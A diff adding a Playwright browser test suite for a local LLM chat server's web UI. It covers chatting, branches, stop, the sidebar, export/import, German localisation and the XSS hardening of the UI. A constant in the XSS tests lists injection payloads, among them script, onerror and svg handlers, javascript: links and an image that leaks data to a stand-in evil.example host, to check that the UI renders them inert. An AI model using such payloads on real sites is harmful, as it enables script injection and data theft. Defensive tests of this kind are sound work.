@@ -1,0 +1,417 @@
+// Browser tests: Debian's chromium, driven headless by playwright-core,
+// against a real `lokal serve` with real models (stories260K answers fast;
+// llama-2-tiny-random never stops on its own, which the stop test needs).
+// Run by `make web-test`; screenshots go to $WEB_TEST_OUT (build/web-test).
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { dirname, join, resolve } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
+
+const here = dirname(fileURLToPath(import.meta.url));
+const repo = resolve(here, '../..');
+const shared = process.env.LOKAL_SHARED ?? resolve(repo, '../shared');
+const bin = process.env.LOKAL_BIN ?? join(repo, 'build/lokal');
+const out = process.env.WEB_TEST_OUT ?? join(repo, 'build/web-test');
+const chromiumPath = process.env.CHROMIUM ?? '/usr/bin/chromium';
+mkdirSync(out, { recursive: true });
+
+let server, base, browser, work;
+
+async function freePort() {
+  return new Promise((ok) => {
+    const s = createServer().listen(0, '127.0.0.1', () => {
+      const { port } = s.address();
+      s.close(() => ok(port));
+    });
+  });
+}
+
+async function call(method, path, body, raw) {
+  const r = await fetch(base + path, {
+    method,
+    headers: raw ? {} : { 'Content-Type': 'application/json' },
+    body: raw ?? (body === undefined ? undefined : JSON.stringify(body)),
+  });
+  const text = await r.text();
+  if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
+  return text ? JSON.parse(text.split('\n').filter(Boolean).pop()) : null;
+}
+
+async function createModel(name, file) {
+  const data = readFileSync(join(shared, 'models', file));
+  const digest = 'sha256:' + createHash('sha256').update(data).digest('hex');
+  await call('POST', `/api/blobs/${digest}`, undefined, data);
+  await call('POST', '/api/create', { model: name, files: { [file]: digest }, stream: false });
+}
+
+before(async () => {
+  work = mkdtempSync(join(tmpdir(), 'lokal-web-'));
+  const port = await freePort();
+  base = `http://127.0.0.1:${port}`;
+  const env = { ...process.env, LOKAL_HOST: `127.0.0.1:${port}`, HOME: work, LOKAL_MODELS: join(work, 'models') };
+  for (const k of Object.keys(env)) if (k.startsWith('OLLAMA_')) delete env[k];
+  server = spawn(bin, ['serve'], { env, stdio: ['ignore', 'ignore', 'pipe'] });
+  let log = '';
+  server.stderr.on('data', (d) => (log += d));
+  for (let i = 0; ; i++) {
+    try {
+      if ((await fetch(base + '/api/version')).ok) break;
+    } catch {
+      /* not up yet */
+    }
+    if (i > 300 || server.exitCode !== null) throw new Error('lokal serve did not start:\n' + log);
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  await createModel('stories', 'stories260K.gguf');
+  await createModel('tiny-random', 'llama-2-tiny-random.gguf');
+  browser = await chromium.launch({ executablePath: chromiumPath, headless: true, args: ['--no-sandbox'] });
+});
+
+after(async () => {
+  await browser?.close();
+  server?.kill('SIGTERM');
+  if (work) rmSync(work, { recursive: true, force: true });
+});
+
+// A page that records what must never happen: dialogs it did not expect,
+// requests to any other host, CSP violations, uncaught errors.
+async function openPage({ locale = 'en-US', expectDialogs = false } = {}) {
+  const context = await browser.newContext({ locale, viewport: { width: 1200, height: 800 }, acceptDownloads: true });
+  const page = await context.newPage();
+  const seen = { dialogs: [], foreign: [], errors: [], csp: [] };
+  page.on('dialog', async (d) => {
+    if (!expectDialogs) seen.dialogs.push(d.message());
+    if (page.nextDialogAnswer !== undefined) await d.accept(page.nextDialogAnswer);
+    else await d.accept();
+  });
+  page.on('pageerror', (e) => seen.errors.push(String(e)));
+  page.on('console', (m) => m.text().includes('Content Security Policy') && seen.csp.push(m.text()));
+  await context.route('**/*', (route) => {
+    const url = new URL(route.request().url());
+    if (url.origin !== base && !['data:', 'blob:'].includes(url.protocol)) {
+      seen.foreign.push(url.href);
+      return route.abort();
+    }
+    return route.continue();
+  });
+  page.seen = seen;
+  return page;
+}
+
+function clean(page) {
+  assert.deepEqual(page.seen.dialogs, [], 'no unexpected dialog');
+  assert.deepEqual(page.seen.foreign, [], 'no request to another host');
+  assert.deepEqual(page.seen.errors, [], 'no page error');
+}
+
+async function chooseModel(page, name) {
+  const full = name.includes(':') ? name : `${name}:latest`; // /api/tags names carry the tag
+  await page.waitForSelector(`#model option[value="${full}"]`, { state: 'attached' });
+  await page.selectOption('#model', full);
+}
+
+async function send(page, text) {
+  await page.fill('#prompt', text);
+  await page.press('#prompt', 'Enter');
+}
+
+const answers = (page) => page.locator('.msg.assistant');
+async function waitDone(page, n) {
+  await page
+    .waitForFunction(
+    (n) => {
+      const a = document.querySelectorAll('.msg.assistant');
+      return a.length === n && a[n - 1].dataset.status === 'done';
+    },
+      n,
+      { timeout: 60000 },
+    )
+    .catch(async (e) => {
+      await shot(page, 'failure');
+      const html = await page.evaluate(() => document.querySelector('.messages')?.outerHTML.slice(0, 3000));
+      throw new Error(`${e.message}\n${JSON.stringify(page.seen)}\n${html}`);
+    });
+}
+
+async function shot(page, name) {
+  await page.screenshot({ path: join(out, `${name}.png`), fullPage: false });
+}
+
+test('GET / keeps the exact text for API clients and serves the UI to browsers', async () => {
+  const plain = await fetch(base + '/');
+  assert.equal(await plain.text(), 'Ollama is running');
+  const page = await openPage();
+  const r = await page.goto(base + '/');
+  const h = r.headers();
+  assert.match(h['content-security-policy'], /default-src 'self'/);
+  assert.match(h['content-security-policy'], /script-src 'self';/);
+  assert.match(h['content-security-policy'], /frame-ancestors 'none'/);
+  assert.equal(h['x-content-type-options'], 'nosniff');
+  assert.equal(h['referrer-policy'], 'no-referrer');
+  await page.waitForSelector('#new-chat');
+  assert.equal(await page.textContent('#new-chat'), 'New chat');
+  clean(page);
+  await page.context().close();
+});
+
+let chatUrl, firstAnswer;
+
+test('send a message and see the streamed answer with its stats', async () => {
+  const page = await openPage();
+  await page.goto(base + '/');
+  await chooseModel(page, 'stories');
+  await page.waitForSelector('.cap-completion');
+  // stories260K has no end token for chat: keep answers short.
+  await page.click('#chat-settings');
+  await page.fill('input[name="num_predict"]', '40');
+  await page.fill('#system-prompt', 'You tell stories.');
+  await page.click('#save-settings');
+  await send(page, 'Once upon a time');
+  await waitDone(page, 1);
+  firstAnswer = (await answers(page).first().locator('.body').textContent()).trim();
+  assert.ok(firstAnswer.length > 0, 'the answer has text');
+  assert.match(await answers(page).first().locator('.stats').textContent(), /tokens\/s/);
+  await page.waitForSelector('.gauge');
+  await page.waitForFunction(() => /#\/chat\/\d+$/.test(location.hash));
+  chatUrl = page.url();
+  const stored = await call('GET', `/lokal/api/chats/${chatUrl.split('/').pop()}`);
+  assert.deepEqual(stored.settings, { system: 'You tell stories.', options: { num_predict: 40 }, model: 'stories:latest' });
+  assert.ok(stored.messages[1].stats.eval_count <= 40);
+  await page.waitForSelector('.chat-item.active');
+  await shot(page, 'chat');
+  clean(page);
+  await page.context().close();
+});
+
+test('reload finds the chat; regenerate and switch branches', async () => {
+  const page = await openPage();
+  await page.goto(chatUrl);
+  await page.waitForSelector('.msg.assistant[data-status="done"]');
+  assert.equal((await answers(page).first().locator('.body').textContent()).trim(), firstAnswer);
+  assert.equal(await page.locator('.msg.user .body').textContent(), 'Once upon a time');
+
+  await page.click('.msg.assistant .regenerate');
+  await page.waitForFunction(() => document.querySelector('.msg.assistant .branch-pos')?.textContent === '2 / 2');
+  await waitDone(page, 1);
+  await page.click('.msg.assistant .prev-branch');
+  await page.waitForFunction(() => document.querySelector('.msg.assistant .branch-pos')?.textContent === '1 / 2');
+  assert.equal((await answers(page).first().locator('.body').textContent()).trim(), firstAnswer);
+
+  // The branch shown is stored: a reload shows the same one.
+  await page.reload();
+  await page.waitForSelector('.msg.assistant .branch-pos');
+  assert.equal(await page.textContent('.msg.assistant .branch-pos'), '1 / 2');
+  clean(page);
+  await page.context().close();
+});
+
+test('edit a question: a new branch with its own answer', async () => {
+  const page = await openPage();
+  await page.goto(chatUrl);
+  await page.click('.msg.user .edit-msg');
+  await page.fill('.msg.user textarea', 'A dragon lived');
+  await page.click('.msg.user .save-edit');
+  await page.waitForFunction(() => document.querySelector('.msg.user .branch-pos')?.textContent === '2 / 2');
+  await waitDone(page, 1);
+  assert.equal(await page.textContent('.msg.user .body'), 'A dragon lived');
+  await page.click('.msg.user .prev-branch');
+  await page.waitForFunction(() => document.querySelector('.msg.user .body')?.textContent === 'Once upon a time');
+  // Back on the first question: its newest answer, with both answers to switch between.
+  assert.equal(await page.textContent('.msg.assistant .branch-pos'), '2 / 2');
+  clean(page);
+  await page.context().close();
+});
+
+test('stop keeps the partial answer, also after a reload', async () => {
+  const page = await openPage();
+  await page.goto(base + '/#/');
+  await chooseModel(page, 'tiny-random');
+  await page.click('#chat-settings');
+  await page.fill('input[name="num_predict"]', '100000');
+  await page.click('#save-settings');
+  await send(page, 'go on forever');
+  await page.waitForSelector('#stop');
+  await page.waitForFunction(() => (document.querySelector('.msg.assistant .body')?.textContent ?? '').length > 20);
+  await page.keyboard.press('Escape');
+  await page.waitForSelector('.msg.assistant[data-status="stopped"]');
+  const partial = await page.textContent('.msg.assistant .body');
+  await page.waitForSelector('#send');
+  await page.reload();
+  await page.waitForSelector('.msg.assistant[data-status="stopped"]');
+  assert.equal(await page.textContent('.msg.assistant .body'), partial);
+  assert.ok(await page.isVisible('text=Stopped'));
+  clean(page);
+  await page.context().close();
+});
+
+test('search, rename, pin and delete in the sidebar', async () => {
+  const page = await openPage({ expectDialogs: true });
+  await page.goto(base + '/');
+  await page.fill('#chat-search', 'dragon');
+  await page.waitForFunction(() => document.querySelectorAll('.chat-item').length === 1);
+  const item = page.locator('.chat-item').first();
+  await item.locator('.more').click();
+  page.nextDialogAnswer = 'Dragons';
+  await item.locator('text=Rename').click();
+  await page.waitForFunction(() => document.querySelector('.chat-item .chat-link')?.textContent === 'Dragons');
+  await item.locator('.more').click();
+  await item.locator('text=Pin').click();
+  await page.fill('#chat-search', '');
+  await page.waitForSelector('text=Pinned');
+  await shot(page, 'sidebar');
+
+  await page.fill('#chat-search', 'go on forever');
+  await page.waitForFunction(() => document.querySelectorAll('.chat-item').length === 1);
+  await page.locator('.chat-item .more').click();
+  page.nextDialogAnswer = undefined;
+  await page.locator('.chat-item >> text=Delete').click();
+  await page.waitForSelector('text=No chats yet');
+  const all = await call('GET', '/lokal/api/chats');
+  assert.equal(all.total, 1);
+  assert.equal(all.chats[0].title, 'Dragons');
+  await page.context().close();
+});
+
+test('export a chat and import it again', async () => {
+  const page = await openPage();
+  await page.goto(base + '/');
+  await page.locator('.chat-item .more').first().click();
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('text=Export as JSON')]);
+  const file = join(work, 'export.json');
+  await download.saveAs(file);
+  const doc = JSON.parse(readFileSync(file, 'utf8'));
+  assert.equal(doc.lokal_chats, 1);
+  assert.equal(doc.chats[0].title, 'Dragons');
+
+  await page.setInputFiles('.sidebar input[type=file]', file);
+  await page.waitForSelector('text=Imported 1 chat(s)');
+  await page.waitForFunction(() => document.querySelectorAll('.chat-item').length === 2);
+  const again = await call('GET', '/lokal/api/export');
+  const [a, b] = again.chats;
+  assert.equal(a.messages.length, b.messages.length);
+  assert.deepEqual(a.messages.map((m) => m.content), b.messages.map((m) => m.content));
+  clean(page);
+  await page.context().close();
+});
+
+test('the UI speaks German when the browser does, and can switch', async () => {
+  const page = await openPage({ locale: 'de-DE' });
+  await page.goto(base + '/');
+  await page.waitForSelector('#new-chat');
+  assert.equal(await page.textContent('#new-chat'), 'Neuer Chat');
+  assert.equal(await page.getAttribute('#chat-search', 'placeholder'), 'Chats durchsuchen');
+  assert.equal(await page.evaluate(() => document.documentElement.lang), 'de');
+  await shot(page, 'german');
+  await page.selectOption('#lang', 'en');
+  assert.equal(await page.textContent('#new-chat'), 'New chat');
+  await page.selectOption('#theme', 'dark');
+  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
+  await page.goto(chatUrl);
+  await page.waitForSelector('.msg.assistant');
+  await shot(page, 'chat-dark');
+  clean(page);
+  await page.context().close();
+});
+
+const XSS = [
+  '<script>alert("xss-script")</script>',
+  '<img src=x onerror=alert("xss-img")>',
+  '[click me](javascript:alert("xss-link"))',
+  '![leak](https://evil.example/collect?secret=1)',
+  '<svg onload=alert("xss-svg")></svg>',
+  '<iframe src="https://evil.example/frame"></iframe>',
+  '$\\href{javascript:alert(1)}{math}$',
+].join('\n\n');
+
+async function assertInert(page) {
+  const report = await page.evaluate(() => {
+    const root = document.querySelector('.messages');
+    const bad = [];
+    for (const el of root.querySelectorAll('*')) {
+      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(el.tagName) || el.tagName.toLowerCase() === 'svg') bad.push(el.tagName);
+      for (const a of el.attributes) {
+        if (a.name.startsWith('on') || /^\s*javascript:/i.test(a.value)) bad.push(`${el.tagName}[${a.name}]`);
+      }
+      if (el.tagName === 'IMG' && el.getAttribute('src')) bad.push('IMG[src=' + el.getAttribute('src') + ']');
+    }
+    return bad;
+  });
+  assert.deepEqual(report, [], 'no executable or leaking element');
+  // Give any stray handler a moment to fire.
+  await page.waitForTimeout(300);
+  clean(page);
+}
+
+test('XSS payloads in an imported chat stay inert', async () => {
+  const doc = {
+    lokal_chats: 1,
+    chats: [{
+      title: '<img src=x onerror=alert("title")>',
+      current_message_id: 2,
+      messages: [
+        { id: 1, role: 'user', content: XSS },
+        { id: 2, parent_id: 1, role: 'assistant', content: XSS, thinking: XSS },
+      ],
+    }],
+  };
+  const { ids } = await call('POST', '/lokal/api/import', doc);
+  const page = await openPage();
+  await page.goto(`${base}/#/chat/${ids[0]}`);
+  await page.waitForSelector('.msg.assistant .body');
+  await page.click('.msg.assistant .thinking summary');
+  assert.ok((await page.textContent('.msg.user .body')).includes('<script>'), 'questions are shown as text');
+  await page.click('.msg.assistant a:has-text("click me")').catch(() => {});
+  await assertInert(page);
+  await shot(page, 'xss-imported');
+  await page.context().close();
+});
+
+test('XSS payloads in a streamed answer stay inert', async () => {
+  const page = await openPage();
+  // The model's stream is replaced with the payloads: same rendering path.
+  await page.route('**/api/chat', (route) =>
+    route.fulfill({
+      status: 200,
+      contentType: 'application/x-ndjson',
+      body: XSS.match(/[\s\S]{1,40}/g)
+        .map((c) => JSON.stringify({ model: 'stories', message: { role: 'assistant', content: c }, done: false }) + '\n')
+        .join('') + JSON.stringify({ model: 'stories', message: { role: 'assistant', content: '' }, done: true, eval_count: 7, eval_duration: 1e6 }) + '\n',
+    }),
+  );
+  await page.goto(base + '/#/');
+  await chooseModel(page, 'stories');
+  await send(page, 'say something nasty');
+  await waitDone(page, 1);
+  await assertInert(page);
+  await page.context().close();
+});
+
+test('models page lists installed and loaded models', async () => {
+  const page = await openPage();
+  await page.goto(base + '/#/models');
+  await page.waitForSelector('tr[data-model="stories:latest"]');
+  await page.waitForSelector('text=Loaded models');
+  await shot(page, 'models');
+  clean(page);
+  await page.context().close();
+});
+
+test('phone-sized layout hides the sidebar behind a menu', async () => {
+  const page = await openPage();
+  await page.setViewportSize({ width: 390, height: 800 });
+  await page.goto(chatUrl);
+  await page.waitForSelector('.msg.assistant');
+  assert.equal(await page.isVisible('.menu-button'), true);
+  await page.click('.menu-button');
+  await page.waitForSelector('.menu-open');
+  await shot(page, 'phone-menu');
+  clean(page);
+  await page.context().close();
+  writeFileSync(join(out, 'done.txt'), 'ok\n');
+});
